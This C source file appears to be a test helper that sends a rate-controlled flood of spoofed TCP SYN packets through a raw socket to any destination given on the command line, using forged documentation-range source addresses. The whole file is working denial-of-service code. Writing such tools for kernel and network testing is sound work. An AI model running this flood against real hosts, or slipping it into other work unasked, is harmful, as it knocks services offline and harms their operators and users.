/* A spoofed SYN flood for the root tests, from the kernel's side of a namespace:
 *
 *   syn_flood DST_ADDR DST_PORT RATE_PER_S SECONDS
 *
 * sends RATE SYNs a second for SECONDS through a raw socket (IP_HDRINCL), each from a forged
 * source in 198.51.100.0/24 (address and port varied, never repeating a 4-tuple within a run),
 * with MSS 1460 and window scale 7 as Linux would offer. Paced on CLOCK_MONOTONIC in 1 ms ticks,
 * so the rate holds without a burst. Prints "sent=N" and exits 0. Test use only: the addresses
 * are the documentation ranges of RFC 5737. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint16_t csum(const void *data, size_t len, uint32_t sum)
{
    const uint8_t *p = data;
    for (size_t i = 0; i + 1 < len; i += 2)
        sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (len & 1)
        sum += (uint32_t)(p[len - 1] << 8);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, (uint16_t)(v >> 16)); put16(p + 2, (uint16_t)v); }

/* IPv4 + TCP SYN with options MSS, NOP, WS: 20 + 28 octets. */
static size_t build_syn(uint8_t *b, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport,
                        uint32_t seq, uint16_t id)
{
    memset(b, 0, 48);
    b[0] = 0x45;
    put16(b + 2, 48);
    put16(b + 4, id);
    put16(b + 6, 0x4000);
    b[8] = 64;
    b[9] = IPPROTO_TCP;
    put32(b + 12, src);
    put32(b + 16, dst);
    put16(b + 10, csum(b, 20, 0));
    uint8_t *t = b + 20;
    put16(t, sport);
    put16(t + 2, dport);
    put32(t + 4, seq);
    t[12] = 7 << 4;                  /* 28 octets */
    t[13] = 0x02;                    /* SYN */
    put16(t + 14, 64240);
    uint8_t *o = t + 20;
    o[0] = 2, o[1] = 4, put16(o + 2, 1460);
    o[4] = 1, o[5] = 3, o[6] = 3, o[7] = 7;
    uint8_t pseudo[12];
    put32(pseudo, src);
    put32(pseudo + 4, dst);
    pseudo[8] = 0;
    pseudo[9] = IPPROTO_TCP;
    put16(pseudo + 10, 28);
    uint32_t sum = 0;
    for (int i = 0; i < 12; i += 2)
        sum += (uint32_t)(pseudo[i] << 8 | pseudo[i + 1]);
    put16(t + 16, csum(t, 28, sum));
    return 48;
}

int main(int argc, char **argv)
{
    if (argc != 5) {
        fprintf(stderr, "usage: syn_flood DST_ADDR DST_PORT RATE_PER_S SECONDS\n");
        return 2;
    }
    struct in_addr da;
    if (inet_pton(AF_INET, argv[1], &da) != 1)
        return 2;
    uint32_t dst = ntohl(da.s_addr);
    uint16_t dport = (uint16_t)atoi(argv[2]);
    long rate = atol(argv[3]), secs = atol(argv[4]);
    if (rate <= 0 || rate > 1000000 || secs <= 0 || secs > 3600)
        return 2;
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (s < 0) {
        perror("socket");
        return 1;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = da};
    uint8_t pkt[48];
    uint64_t sent = 0, total = (uint64_t)rate * (uint64_t)secs;
    uint64_t x = 0x9e3779b97f4a7c15ull;
    struct timespec tick;
    clock_gettime(CLOCK_MONOTONIC, &tick);
    uint64_t start_ns = (uint64_t)tick.tv_sec * 1000000000u + (uint64_t)tick.tv_nsec;
    for (uint64_t ms = 0; sent < total; ms++) {
        uint64_t due = (ms + 1) * (uint64_t)rate / 1000u;   /* SYNs due by the end of this ms */
        for (; sent < due && sent < total; sent++) {
            x ^= x << 13, x ^= x >> 7, x ^= x << 17;
            uint32_t src = 0xc6336400u | (uint32_t)(1 + sent % 254);          /* 198.51.100.x */
            uint16_t sport = (uint16_t)(1024 + (sent / 254) % 64000);
            build_syn(pkt, src, dst, sport, dport, (uint32_t)x, (uint16_t)sent);
            sendto(s, pkt, sizeof pkt, 0, (struct sockaddr *)&to, sizeof to);
        }
        uint64_t next = start_ns + (ms + 1) * 1000000u;
        struct timespec ts = {.tv_sec = (time_t)(next / 1000000000u),
                              .tv_nsec = (long)(next % 1000000000u)};
        clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL);
    }
    close(s);
    printf("sent=%llu\n", (unsigned long long)sent);
    return 0;
}
